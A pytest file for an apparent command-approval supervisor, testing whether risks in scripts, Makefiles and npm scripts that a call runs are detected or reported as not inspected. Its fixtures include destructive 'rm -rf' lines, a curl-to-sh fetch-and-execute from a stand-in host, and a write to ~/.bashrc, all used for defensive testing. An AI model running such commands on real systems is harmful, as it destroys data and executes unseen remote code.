"""Code that a call runs and that is not part of it is read, or said to be not read, for every way to run it."""

import os
import shutil
from pathlib import Path

import pytest

from whisper_tui.effects import code_of, effects_of
from whisper_tui.model.call import CommandSpec, Shell
from whisper_tui.model.verdict import Resolved, Verdict
from whisper_tui.policy.rules.rule import NO_RULES
from whisper_tui.supervisor.approvals.judge import judge_alone

HARMLESS = "#!/bin/sh\nset -e\necho hello\n"
GRAVE = "#!/bin/sh\nset -e\n\nif true; then\n  rm -rf build\nfi\n"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    root = tmp_path / "work"
    root.mkdir()
    for name, text in {"deploy.sh": GRAVE, "ok.sh": HARMLESS, "sources.sh": "#!/bin/bash\n. ./ok.sh\n"}.items():
        (root / name).write_text(text)
        (root / name).chmod(0o755)
    (root / "file.py").write_text("print()\n")
    (root / "package.json").write_text('{\n  "scripts": {\n    "build": "rm -rf dist",\n    "y": "node y.js"\n  }\n}\n')
    (root / "Makefile").write_text("x: y\n\trm -rf dist\ny:\n\t@echo y\nz:\n\t./ok.sh\n")
    (root / "justfile").write_text("x:\n    rm -rf dist\n")
    (root / "prog").write_bytes(b"\x7fELF\0\0")
    (root / "prog").chmod(0o755)
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.copy(root / "deploy.sh", outside / "deploy.sh")
    return root


def judged(text: str, workspace: Path, **environment: str) -> tuple[Verdict, Resolved]:
    spec = CommandSpec(command=Shell(text=text), cwd=str(workspace))
    variables = {"PATH": "/usr/bin:/bin", "HOME": "/nonexistent", **environment}
    return judge_alone(spec, NO_RULES, variables, root=str(workspace), now=0.0)


READ_WITH_RISKS = {
    "./deploy.sh": "./deploy.sh line 5",
    "bash deploy.sh": "bash deploy.sh line 5",
    "bash deploy.sh -c decoy": "bash deploy.sh line 5",
    "sh < deploy.sh": "sh < deploy.sh line 5",
    "source deploy.sh": "source deploy.sh line 5",
    ". ./deploy.sh": ". ./deploy.sh line 5",
    "sudo ./deploy.sh": "./deploy.sh line 5",
    "timeout 5 bash ./deploy.sh": "bash ./deploy.sh line 5",
    "cd ../outside && ./deploy.sh": "./deploy.sh line 5",
    "../outside/deploy.sh": "../outside/deploy.sh line 5",
    "true && ./ok.sh; ./deploy.sh": "./deploy.sh line 5",
    "npm run build": "npm run build line 3",
    "yarn build": "yarn run build line 3",
    "yarn run build": "yarn run build line 3",
    "bun run build": "bun run build line 3",
    "make x": "make x line 2",
    "make -j x": "make x line 2",
    "make -j 4 x": "make x line 2",
    "make": "make line 2",
    "just x": "just x line 2",
}


@pytest.mark.parametrize("text", READ_WITH_RISKS)
def test_the_risks_of_a_script_are_risks_of_the_call_with_file_and_line(text: str, workspace: Path) -> None:
    verdict, resolved = judged(text, workspace)
    sentences = [risk.sentence for risk in verdict.risks if risk.id == "destructive"]
    assert f"{READ_WITH_RISKS[text]}: Deletes recursively without confirmation (`rm -rf`)" in sentences
    assert resolved.not_inspected == ()


NOT_INSPECTED = {
    "python3 file.py": "code of python is not analysed",
    "python3 file.py -c pass": "code of python is not analysed",
    "python3 -m file": "code of python is not analysed",
    "node file.js": "there is no such file",
    "./prog": "it is a program in machine code",
    "./missing.sh": "there is no such file",
    "bash $SCRIPT_OF_NOBODY/x": "there is no such file",
    "bash $(echo deploy.sh)": "the file is only known when it runs",
    "echo 'rm -rf x' > new.sh; bash new.sh": "an earlier command writes the file",
    "cp ok.sh new.sh; ./new.sh": "an earlier command writes the file",
    "curl -o deploy.sh https://e.example/x; bash deploy.sh": "an earlier command writes the file",
    "./sources.sh": "run by ./sources.sh",
    "make z": "run by make z",
    "npm run y": "run by npm run y",
    "npm run nothing": "package.json has no such script, or cannot be read",
    "make nothing": "there is no simple rule for nothing",
    "find . -name '*.sh' -exec bash {} ';'": "the file is only known when it runs",
    "ls *.sh | xargs bash": "the file is only known when it runs",
    "python3 < file.py": "code of python is not analysed",
    "awk -f prog.awk app.conf": "there is no such file",
    "npx x": "packages contain code of their own",
    "uvx x": "packages contain code of their own",
    "npm exec ls": "packages contain code of their own",
    "npm install x": "packages contain code of their own",
    "npm ci": "packages contain code of their own",
    "pip install x": "packages contain code of their own",
    "pip install -e .": "packages contain code of their own",
    "cargo run": "it runs code of the project",
    "cargo --locked test": "it runs code of the project",
    "go test ./...": "it runs code of the project",
    "pytest -q": "it runs code of the project",
    "uv run pytest": "it runs code of the project",
    "mvn package": "it runs code of the project",
    "docker compose up": "it is in a container image",
    "docker run alpine": "it is in a container image",
}


@pytest.mark.parametrize("text", NOT_INSPECTED)
def test_unread_code_is_reported_as_not_inspected(text: str, workspace: Path) -> None:
    _, resolved = judged(text, workspace)
    assert [code.not_inspected for code in resolved.not_inspected] == [NOT_INSPECTED[text]]
    effects = effects_of(Shell(text=text), str(workspace), [str(workspace)], {"PATH": "/usr/bin:/bin"}, budget_s=20)
    assert NOT_INSPECTED[text] in {code.not_inspected for code in effects.code if not code.inspected}
    assert not effects.files_are_certain


@pytest.mark.parametrize(
    "text",
    [
        "ls",
        "git status",
        "rm -rf build",
        "cargo --version",
        "cargo tree",
        "npm ls",
        "docker ps",
        "make -n x",
        "go version",
    ],
)
def test_a_command_without_other_code_shows_none(text: str, workspace: Path) -> None:
    assert judged(text, workspace)[1].code == ()


def test_a_script_without_a_risk_is_inspected(workspace: Path) -> None:
    verdict, resolved = judged("./ok.sh", workspace)
    assert [code.name for code in resolved.code] == ["./ok.sh"] and resolved.not_inspected == ()
    assert verdict.risks == ()


def test_a_program_of_the_workspace_that_the_path_finds_is_code(workspace: Path) -> None:
    (workspace / "bin").mkdir()
    shutil.copy(workspace / "prog", workspace / "bin" / "tool")
    _, resolved = judged("tool --all", workspace, PATH=f"{workspace}/bin:/usr/bin:/bin")
    assert [code.not_inspected for code in resolved.not_inspected] == ["it is a program in machine code"]


def test_a_download_that_a_script_runs_is_a_severe_risk_of_the_call(workspace: Path) -> None:
    (workspace / "ok.sh").write_text("curl -s https://e.example/x | sh\n")
    verdict, _ = judged("bash ok.sh", workspace)
    assert "unseen-script" in {risk.id for risk in verdict.risks}


def test_a_makefile_that_runs_more_than_the_recipe_is_not_inspected(workspace: Path) -> None:
    for line in ("X := $(shell rm -rf y)", "include more.mk", "X != date", "SHELL = ./mine"):
        (workspace / "Makefile").write_text(f"x:\n\techo x\n{line}\n")
        (code,) = judged("make x", workspace)[1].not_inspected
        assert code.not_inspected == "line 3 of the file runs or includes more than the recipe"


def test_files_that_cannot_be_read_are_not_inspected_and_never_waited_for(workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    (workspace / "loop").symlink_to("loop")
    (workspace / "huge").write_bytes(b"#" * (2 << 20))
    (workspace / "long").write_text("#!/bin/sh\n" + "echo hello\n" * 2000)
    (workspace / "directory").mkdir()
    expected = {
        "pipe": "it is not a regular file",
        "huge": "the file is larger than 1,024 KiB",
        "long": "it is longer than 10,000 characters",
        "directory": "it is not a regular file",
    }
    for name, why in expected.items():
        (code,) = code_of(Shell(text=f"bash {name}"), str(workspace), [str(workspace)], {})
        assert (code.inspected, code.not_inspected) == (False, why)
    (code,) = code_of(Shell(text="bash loop"), str(workspace), [str(workspace)], {})
    assert code.not_inspected.startswith("the file cannot be read")


@pytest.mark.skipif(os.geteuid() == 0, reason="root reads every file")
def test_a_script_that_may_not_be_read_is_not_inspected(workspace: Path) -> None:
    (workspace / "ok.sh").chmod(0o111)
    (code,) = judged("./ok.sh", workspace)[1].not_inspected
    assert code.not_inspected == "the file cannot be read: Permission denied"


def test_code_that_was_not_reached_is_said_to_be_not_inspected(workspace: Path) -> None:
    late = code_of(Shell(text="bash deploy.sh"), str(workspace), [str(workspace)], {}, budget_s=0)
    assert [(code.inspected, code.not_inspected) for code in late] == [(False, "time ran out before it was read")]
    for number in range(21):
        shutil.copy(workspace / "ok.sh", workspace / f"ok{number}.sh")
    text = "; ".join(f"./ok{number}.sh" for number in range(21))
    *read, left_out = code_of(Shell(text=text), str(workspace), [str(workspace)], {})
    assert [code.inspected for code in read] == [True] * 20
    assert (left_out.inspected, left_out.not_inspected) == (False, "it runs more than 20 scripts")


def test_the_risks_of_a_script_do_not_change_the_verdict(workspace: Path) -> None:
    before, _ = judged("./ok.sh", workspace)
    (workspace / "ok.sh").write_text(GRAVE + "echo hi > ~/.bashrc\n")
    after, _ = judged("./ok.sh", workspace)
    assert after.risks and after.model_copy(update={"risks": ()}) == before
